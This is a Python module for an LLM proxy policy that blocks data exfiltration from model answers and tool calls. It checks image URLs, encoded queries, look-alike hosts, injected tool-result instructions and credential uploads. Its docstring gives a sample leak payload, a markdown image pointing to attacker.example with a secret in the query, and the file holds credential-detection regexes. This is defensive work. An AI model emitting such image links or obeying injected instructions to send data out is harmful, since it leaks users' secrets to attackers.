"""Built-in policy `egress`: stops answers and tool calls from carrying data to hosts nobody
allowed. The classic leak is an answer holding `![](https://attacker.example/?q=<secret>)`: the
client's markdown renderer fetches the image by itself and the query reaches the attacker, no
click needed. Images from hosts not allow-listed are therefore blocked by default, as are URLs
whose query, path or subdomain carries data (encoded or written out), IP-literal and look-alike
hosts and `javascript:` URLs, tool results telling the model to send data out, and emitted tool
calls sending data to an unlisted host through another argument than its URL; other links to
unlisted hosts and `data:` URLs are logged.

Each kind has its own action (`allow`, `log`, `block`, `confirm`, `redact`); `redact` replaces
the URL with `[REDACTED:<kind>]` (in streamed answers too), except in tool calls the model
emits, which cannot be rewritten and are blocked instead. Setting `action` applies it to every
kind without an entry in `actions`.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, ClassVar, Literal

from pydantic import Field, field_validator

from capsem_proxy.decisions import Decision, Verdict
from capsem_proxy.detectors.base import Detector, Finding
from capsem_proxy.detectors.exfil_instructions import (
    MAY_NAME_DESTINATION,
    Destination,
    find_destinations,
    read_instruction,
)
from capsem_proxy.detectors.injection import InjectionDetector
from capsem_proxy.detectors.slices import WindowScan
from capsem_proxy.detectors.urls import (
    BlobLimits,
    HostAllowList,
    UrlDetector,
    check_host_entries,
    find_urls,
    parse_url,
    registrable_domain,
)
from capsem_proxy.detectors.urls.find import FoundUrl, image_reference_labels
from capsem_proxy.detectors.urls.plain_data import plain_data
from capsem_proxy.exchange import Answer
from capsem_proxy.hooks import ModelResponse, ToolCall, ToolResponse
from capsem_proxy.policies.base import SUSPENDS
from capsem_proxy.policies.detector_policy import DetectorOptions, DetectorPolicy, Place, combined, json_strings
from capsem_proxy.scanning import current_ledger, screen, too_large_decision

__all__ = ["DEFAULT_ACTIONS", "EgressOptions", "EgressPolicy"]

EgressAction = Literal["allow", "log", "block", "confirm", "redact"]
# The URL kinds, and a tool result telling the model to send data to a URL not allow-listed.
EgressKind = Literal[
    "markdown_image", "link", "data_url", "script_url", "encoded_query", "ip_host", "homograph",
    "exfiltration_instruction", "data_upload",
]

DEFAULT_ACTIONS: dict[str, EgressAction] = {
    "markdown_image": "block",
    "encoded_query": "block",
    "ip_host": "block",
    "homograph": "block",
    "script_url": "block",
    "data_url": "log",
    "link": "log",
    "exfiltration_instruction": "block",
    "data_upload": "block",
}
_PHRASES = {
    "markdown_image": "image from a host not allow-listed",
    "encoded_query": "encoded data in a URL",
    "ip_host": "URL to an IP address",
    "homograph": "look-alike host",
    "script_url": "script URL",
    "data_url": "data: URL",
    "link": "link to a host not allow-listed",
    "exfiltration_instruction": "tool result instructing to send data to a host not allow-listed",
    "data_upload": "tool call sending data to a host not allow-listed",
}
_MAX_DOMAINS_NAMED = 3
# A call's arguments read for `data_upload`: at most this many strings, destinations in the short
# ones, data in the first characters of each (an upload's body may be long; its head says enough).
_MAX_UPLOAD_VALUES = 64
_MAX_DESTINATION_CHARS = 2048
_MIN_UPLOAD_CHARS = 6
_MAX_UPLOAD_CHARS = 8192
# A private key's body, a credentials file's or an environment's secret lines (a value given, not
# documentation naming the format).
_CREDENTIALS = re.compile(
    r"-----BEGIN [A-Z ]{0,20}PRIVATE KEY-----\s*[A-Za-z0-9+/=]{16}|"
    r"(?i:\b(?:aws_secret_access_key|aws_session_token|client_secret|refresh_token)\b\s*[:=]\s*\S{8})|"
    r"\b[A-Z][A-Z0-9_]{0,40}(?:_TOKEN|_SECRET|_KEY|_PASSWORD)\s*=\s*[^\s.]{8}"
)
_DEFAULT_SCAN: list[Place] = ["answers", "tool_calls", "tool_results"]
# Evidence of the injection detector that makes a URL in a tool result an exfiltration instruction.
_INSTRUCTION_FAMILIES = frozenset(
    {"data_exfiltration", "tool_hijack", "indirect_injection", "instruction_override", "classifier"}
)
# An injection score at which a destination a verb leads to is enough (see `on_tool_response`).
_SURE_INJECTION = 0.9
# RequestContext.scratch key: per policy, what the reading of a streamed answer carries from check to check.
_STREAM_READING = "egress_stream_reading"
# Reference-style images tracked across a stream (labels used, definitions seen); beyond, the oldest go.
_MAX_TRACKED_REFERENCES = 256
# How far before a URL a markdown image's `![` may stand (the URL finder looks as far back).
_LABEL_LOOKBACK = 2002
_REFERENCE_DEFINITION_LINE = re.compile(r"^[ ]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?[^\s>]+[^\n]*", re.MULTILINE)


@dataclass(slots=True)
class _StreamReading:
    """What reading one part (text or thinking) of a streamed answer carries from check to check."""

    read_from: int | None = None  # the start of a URL that may still grow, read again next time
    image_labels: dict[str, None] = field(default_factory=dict)  # labels images used, oldest first
    definitions: dict[str, str] = field(default_factory=dict)  # label -> its `[label]: url` line
    last_image_open: int = -1  # where the last `![` seen starts


class EgressOptions(DetectorOptions):
    """Options of EgressPolicy (plus every option of DetectorOptions)."""

    action: EgressAction = Field(  # type: ignore[assignment]
        "block", description="when set, the action of every kind not in `actions`"
    )
    actions: dict[EgressKind, EgressAction] = Field(  # type: ignore[assignment]
        default_factory=dict, description="finding kind -> action, over the defaults (see DEFAULT_ACTIONS)"
    )
    scan: list[Place] = Field(default_factory=lambda: _DEFAULT_SCAN.copy(), description="where to look")
    allowed_domains: list[str] = Field(
        default_factory=list,
        description="domains (with their subdomains), '*.domain' (subdomains only), IP addresses or networks",
    )
    allow_loopback: bool = Field(True, description="URLs to 127.0.0.0/8, ::1 and localhost are allowed")
    min_base64_chars: int = Field(24, ge=8, description="shortest base64-like run counted as data in a query")
    min_hex_chars: int = Field(32, ge=8, description="shortest hex run counted as data in a query")
    max_query_chars: int = Field(256, ge=16, description="a longer query to an unlisted host counts as data")
    min_escaped_chars: int = Field(8, ge=1, description="needless %-escapes (of letters, digits) counted as data")
    window_chars: int = Field(512, ge=1, description="longest URL judged before any of it streams out")

    @field_validator("allowed_domains")
    @classmethod
    def _domains_valid(cls, domains: list[str]) -> list[str]:
        return check_host_entries(domains)


class EgressPolicy(DetectorPolicy):
    """URL egress control for answers and tool calls (built-in name `egress`)."""

    name: ClassVar[str] = "egress"
    reason: ClassVar[str] = "leakage"
    options_model: ClassVar[type[DetectorOptions]] = EgressOptions
    # What leaves: calls in a request's history were checked when the model emitted them.
    screens_call_history: ClassVar[bool] = False

    def __init__(self, options: DetectorOptions) -> None:
        assert isinstance(options, EgressOptions)
        fallback = options.action if "action" in options.model_fields_set else None
        self._kind_actions: dict[str, EgressAction] = {
            kind: options.actions.get(kind) or fallback or default  # type: ignore[call-overload]
            for kind, default in DEFAULT_ACTIONS.items()
        }
        super().__init__(options)
        self.url_detector: UrlDetector = self.detector  # type: ignore[assignment]
        # Reads tool results for instructions to send data out (signatures and the learned model).
        self._instructions = InjectionDetector.with_model(0.5, "tool_results")
        # This policy's keys in a request's stream readings (made once, not at every check).
        self._reading_keys = {"thinking": (id(self), "thinking"), "text": (id(self), "text")}
        self._allow_loopback = options.allow_loopback

    def build_detector(self, options: DetectorOptions) -> Detector:
        assert isinstance(options, EgressOptions)
        limits = BlobLimits(
            min_base64_chars=options.min_base64_chars,
            min_hex_chars=options.min_hex_chars,
            max_query_chars=options.max_query_chars,
            min_escaped_chars=options.min_escaped_chars,
        )
        return UrlDetector(HostAllowList(options.allowed_domains, allow_loopback=options.allow_loopback), limits)

    def action_for(self, kind: str) -> Any:
        return self._kind_actions.get(kind, "block")

    async def decide(
        self, hook: str, text: str, *, reversible: bool = False, can_redact: bool = True, complete: bool = True
    ) -> Decision | None:
        """The decision on the URLs of `text`; `complete=False` for a streamed answer still growing."""
        if not text:
            return None
        ledger = current_ledger()
        if not ledger.charge(self, len(text), growing=hook == "on_model_response"):
            return too_large_decision(self.name, hook, ledger)
        if ledger.inline(len(text)):
            found = self.url_detector.scan(text, complete=complete)
        else:
            found = await self.scan(text, self._slice_scanner(text, complete))
        return self._url_decision(hook, found, reversible, can_redact) if found else None

    def _url_decision(self, hook: str, found: list[Finding], reversible: bool, can_redact: bool) -> Decision | None:
        """The decision on the URL findings of a text (None when every one's action is `allow`)."""
        findings = [finding for finding in found if self._kind_actions.get(finding.kind) != "allow"]
        if not findings:
            return None
        decision = self.decision_for(hook, findings, reversible=reversible, can_redact=can_redact)
        decision.details, domains = _describe(findings)
        decision.extra["domains"] = domains
        return decision

    def _plain_hooks(self) -> dict[str, Callable[[Any], Any]]:
        """Answers are read by a plain function (see `DetectorPolicy._plain_hooks`), unless a
        subclass reads them its own way."""
        cls = type(self)
        if (
            "on_model_response" in self.implemented_hooks
            and cls.on_model_response is EgressPolicy.on_model_response
            and cls.decide is EgressPolicy.decide
        ):
            return {"on_model_response": self._answer_now}
        return {}

    def _answer_now(self, event: ModelResponse) -> Any:
        """`on_model_response` as a plain function: a streamed answer's check (which never waits),
        or `decide` on a whole answer's text when it is short enough to read now (else `SUSPENDS`,
        with nothing done)."""
        if event.text_buffer is not None or event.thinking_buffer is not None:
            return self._growing_answer(event)
        text = _answer_text(event.answer)
        if not text:
            return None
        ledger = current_ledger()
        if not ledger.fits_inline(len(text)):
            return SUSPENDS
        if not ledger.charge(self, len(text), growing=True, inline=True):
            return too_large_decision(self.name, "on_model_response", ledger)
        found = self.url_detector.scan(text, complete=event.final)
        return self._url_decision("on_model_response", found, False, True) if found else None

    def _slice_scanner(self, text: str, complete: bool) -> WindowScan:
        """Reads slices of `text`: markdown images may use a reference defined anywhere in the text
        (found once, for every slice), and only the end of the whole text may still grow (a URL cut
        by a slice is read again)."""
        image_references = image_reference_labels(text)

        def scan_window(window: str, reaches_end: bool) -> list[Finding]:
            return self.url_detector.scan(
                window, complete=complete or not reaches_end, image_references=image_references
            )

        return scan_window

    async def on_tool_response(self, event: ToolResponse) -> Decision | None:
        """A tool result that tells the model to send data to a destination not allow-listed (the
        first step of exfiltration through a fetched page or e-mail). A destination (a URL, an
        e-mail address, a host written without a scheme) is a finding when the text around it
        reads as such an instruction (`detectors.exfil_instructions`, which also weighs the
        injection detector's score), or when the injection detector flags the text with evidence
        of an instruction. Plain links and addresses in tool results are not findings: fetched
        pages and e-mails are full of them."""
        if self._kind_actions["exfiltration_instruction"] == "allow":
            return None
        result = event.result
        text = "\n".join(result.texts() if result is not None else json_strings(event.response))
        if not MAY_NAME_DESTINATION.search(text):
            return None
        refusal = self.over_budget("on_tool_response", len(text))
        if refusal is not None:
            return refusal
        destinations = self._unlisted_destinations(text)
        if not destinations:
            return None
        detector = self._instructions
        analysis = await screen(
            len(text), lambda: detector.analyze(text), lambda slice_chars: detector.analyze_in_slices(text, slice_chars)
        )
        instructed = analysis.flagged and bool(_INSTRUCTION_FAMILIES.intersection(analysis.families))
        readings = [read_instruction(text, destination, analysis.score, instructed) for destination in destinations]
        chosen = [reading.destination for reading in readings if reading.instructs]
        families = sorted({sign for reading in readings if reading.instructs for sign in reading.signs})
        if instructed and analysis.score >= _SURE_INJECTION:
            # The injection detector is sure of an instruction: every destination a verb leads to
            # goes, unless the text is about such attacks.
            chosen = [reading.destination for reading in readings
                      if "verb" in reading.signs and "discussion" not in reading.signs]
            families = analysis.families
        if not chosen:
            return None
        findings = [Finding("exfiltration_instruction", item.start, item.end, item.text) for item in chosen]
        decision = self.decision_for("on_tool_response", findings, can_redact=False)
        domains = list(dict.fromkeys(domain for item in chosen for domain in [_domain_of(item)] if domain))
        named = ", ".join(domains[:_MAX_DOMAINS_NAMED]) + (", ..." if len(domains) > _MAX_DOMAINS_NAMED else "")
        decision.details = f"{_PHRASES['exfiltration_instruction']} ({named})" if named else _PHRASES[
            "exfiltration_instruction"]
        decision.extra["domains"] = domains
        decision.extra["families"] = families
        return decision

    async def on_tool_call(self, event: ToolCall) -> Decision | None:
        """Emitted calls: the URLs of their arguments (see `decide`), and a call that sends data
        to a host not allow-listed through its other arguments (`http_request(url=<unlisted>,
        body=<a key>)`, `send_email(to=<unlisted address>, body=<card number>)`): the URL or
        address carries nothing, the request does (`data_upload`)."""
        decision = await super().on_tool_call(event)
        if not event.emitted or self._kind_actions["data_upload"] == "allow":
            return decision
        if decision is not None and decision.verdict is Verdict.BLOCK:
            return decision
        return combined(decision, self._data_upload(json_strings(event.args)))

    def _data_upload(self, values: list[str]) -> Decision | None:
        """A `data_upload` decision when one of `values` names a destination not allow-listed and
        another holds data written out or encoded (see `urls.plain_data`)."""
        if len(values) < 2 or len(values) > _MAX_UPLOAD_VALUES:
            return None
        destinations: list[tuple[int, Destination]] = []
        for index, value in enumerate(values):
            if len(value) <= _MAX_DESTINATION_CHARS and MAY_NAME_DESTINATION.search(value):
                destinations.extend((index, item) for item in self._unlisted_destinations(value, slot_hosts=False))
        if not destinations:
            return None
        carrying = {index for index, value in enumerate(values)
                    if len(value) >= _MIN_UPLOAD_CHARS and _holds_data(value[:_MAX_UPLOAD_CHARS])}
        chosen = [item for index, item in destinations if carrying - {index}]
        if not chosen:
            return None
        findings = [Finding("data_upload", item.start, item.end, item.text) for item in chosen]
        decision = self.decision_for("on_tool_call", findings, can_redact=False)
        domains = list(dict.fromkeys(domain for item in chosen for domain in [_domain_of(item)] if domain))
        decision.details = f"{_PHRASES['data_upload']} ({', '.join(domains[:_MAX_DOMAINS_NAMED])})"
        decision.extra["domains"] = domains
        return decision

    def _unlisted_destinations(self, text: str, slot_hosts: bool = True) -> list[Destination]:
        """URLs the URL detector would report, and e-mail addresses and scheme-less hosts whose
        host is not allow-listed (with `slot_hosts`, also hosts whose first label is a placeholder)."""
        urls = (Destination(found.start, found.end, found.text, "", found.context == "image")
                for found in find_urls(text, spaced_targets=False) if self.url_detector.kinds_of(found))
        allowed = self.url_detector.allowed
        return [destination for destination in find_destinations(text, urls, slot_hosts)
                if not destination.host or not (allowed.allows_host(destination.host)
                                                or (self._allow_loopback and destination.host == "localhost"))]

    # A streamed answer is read from what earlier checks left unsettled (see `_stream_findings`).
    incremental_answers: ClassVar[bool] = True

    async def on_model_response(self, event: ModelResponse) -> Decision | None:
        if event.text_buffer is None and event.thinking_buffer is None:
            text = _answer_text(event.answer)
            return await self.decide("on_model_response", text, complete=event.final)
        return self._growing_answer(event)

    def _growing_answer(self, event: ModelResponse) -> Decision | None:
        """`on_model_response` on a streamed answer, read from what earlier checks left unsettled."""
        thinking_length, text_length = event.thinking_length, event.text_length
        ledger = current_ledger()  # `over_budget`, written out: this runs at every check of a stream
        if not ledger.charge(self, thinking_length + text_length, growing=True):
            return too_large_decision(self.name, "on_model_response", ledger)
        readings: dict[tuple[int, str], _StreamReading] = event.context.scratch.setdefault(_STREAM_READING, {})
        # A part with nothing to read is skipped, and a reading not yet begun stays as it is.
        findings = self._part_findings(
            readings, "thinking", event.thinking_from, thinking_length, event.settled_thinking_chars, event.final
        ) if thinking_length else []
        if text_length:
            found = self._part_findings(
                readings, "text", event.text_from, text_length, event.settled_chars, event.final
            )
            findings = findings + found if findings else found
        if not findings:
            return None
        decision = self.decision_for("on_model_response", findings)
        decision.details, domains = _describe(findings)
        decision.extra["domains"] = domains
        return decision

    def _part_findings(
        self, readings: dict[tuple[int, str], _StreamReading], part: str, read_from: Callable[[int], str],
        length: int, settled: int, final: bool,
    ) -> list[Finding]:
        """The findings of one part (text or thinking) of a growing answer whose action is not `allow`."""
        key = self._reading_keys[part]
        reading = readings.get(key)
        if reading is None:
            reading = readings[key] = _StreamReading()
        findings = self._stream_findings(reading, read_from, length, settled, final)
        if not findings:
            return findings
        return [finding for finding in findings if self._kind_actions.get(finding.kind) != "allow"]

    def _stream_findings(
        self, reading: _StreamReading, read_from: Callable[[int], str], length: int, settled: int, final: bool
    ) -> list[Finding]:
        """The URL findings of a growing text, reading only its unsettled end: the last
        `window_chars` before `settled` and what follows, or from a URL that was still growing.

        What a URL's judgement depends on before that point is carried along: the labels of
        reference-style images used earlier (so a definition far below its image is judged as the
        image it is), definitions seen earlier (judged again when an image starts using them),
        and where the last `![` opened (a long alt text puts it out of reach of the read).
        """
        start = settled - self.window_chars
        if start < 0:
            start = 0
        if reading.read_from is not None and reading.read_from < start:
            start = reading.read_from
        if start >= length:
            return []
        segment = read_from(start)
        labels = image_reference_labels(segment) if "![" in segment else frozenset()
        prefix = ""
        if reading.image_labels or labels:  # most answers hold no image at all
            prefix_lines = []
            if reading.image_labels:
                prefix_lines.append("".join(f"![][{label}]" for label in reading.image_labels))
            prefix_lines.extend(
                reading.definitions[label]
                for label in labels
                if label not in reading.image_labels and label in reading.definitions
            )
            prefix = "\n".join(prefix_lines) + "\n" if prefix_lines else ""
        shift = start - len(prefix)  # offset in the text of position 0 of `prefix + segment`
        findings: list[Finding] = []
        reading.read_from = None
        for found in find_urls(prefix + segment, complete=final):
            absolute_start = found.start + shift
            if found.start >= len(prefix):
                if not found.complete:
                    reading.read_from = absolute_start if reading.read_from is None else reading.read_from
                elif (
                    found.context == "link"
                    and 0 <= reading.last_image_open < start
                    and absolute_start - reading.last_image_open <= _LABEL_LOOKBACK
                ):
                    found = self._with_wider_context(found, read_from, absolute_start, final)
            for kind in self.url_detector.kinds_of(found):
                findings.append(Finding(kind, absolute_start, absolute_start + len(found.text), found.text))
        image_open = segment.rfind("![")
        if image_open != -1:
            reading.last_image_open = start + image_open
        for label in labels:
            reading.image_labels[label] = None
        # A definition line holds `]:` (most answers have none: the pattern is not run over them).
        for match in _REFERENCE_DEFINITION_LINE.finditer(segment) if "]:" in segment else ():
            reading.definitions[match.group(1).strip().lower()] = match.group()
        for tracked in (reading.image_labels, reading.definitions):
            while len(tracked) > _MAX_TRACKED_REFERENCES:
                del tracked[next(iter(tracked))]
        return findings

    @staticmethod
    def _with_wider_context(
        found: FoundUrl, read_from: Callable[[int], str], absolute_start: int, final: bool
    ) -> FoundUrl:
        """`found` judged with the text as far back as a markdown label may reach (an image whose
        alt text began before the read would otherwise pass for a link)."""
        wide_start = max(0, absolute_start - _LABEL_LOOKBACK)
        offset = absolute_start - wide_start
        wide = read_from(wide_start)[: offset + len(found.text) + 1]
        for candidate in find_urls(wide, complete=final):
            if candidate.start == offset:
                return FoundUrl(found.start, found.end, found.text, candidate.context, found.complete)
        return found


def _answer_text(answer: Answer) -> str:
    """A whole answer's text as egress reads it: its thinking, if any, then its text."""
    return answer.text if not answer.thinking else answer.thinking + "\n" + answer.text


def _holds_data(value: str) -> bool:
    """`value` holds someone's data: written out (a card or social security number, an IBAN, a key
    of a known format, "password: ..."), a private key, or a credentials file's lines. E-mail
    addresses and phone numbers do not count: letters and requests carry their sender's."""
    return plain_data(value, sentences=False, contacts=False) or _CREDENTIALS.search(value) is not None


def _domain_of(destination: Destination) -> str:
    """The registrable domain (or IP address) a destination names."""
    if destination.host:
        return registrable_domain(destination.host)
    url = parse_url(destination.text)
    return "" if url is None else str(url.ip) if url.ip is not None else registrable_domain(url.host)


def _describe(findings: list[Finding]) -> tuple[str, list[str]]:
    """What was found, naming registrable domains only: a subdomain or query may hold the data."""
    by_kind: dict[str, list[str]] = {}
    all_domains: list[str] = []
    for finding in findings:
        url = parse_url(finding.text) if finding.kind not in ("data_url", "script_url") else None
        domain = "" if url is None else str(url.ip) if url.ip is not None else registrable_domain(url.host)
        domains = by_kind.setdefault(finding.kind, [])
        if domain and domain not in domains:
            domains.append(domain)
            if domain not in all_domains:
                all_domains.append(domain)
    parts = []
    for kind, domains in by_kind.items():
        named = ", ".join(domains[:_MAX_DOMAINS_NAMED]) + (", ..." if len(domains) > _MAX_DOMAINS_NAMED else "")
        parts.append(f"{_PHRASES.get(kind, kind)} ({named})" if named else _PHRASES.get(kind, kind))
    return "; ".join(parts), all_domains
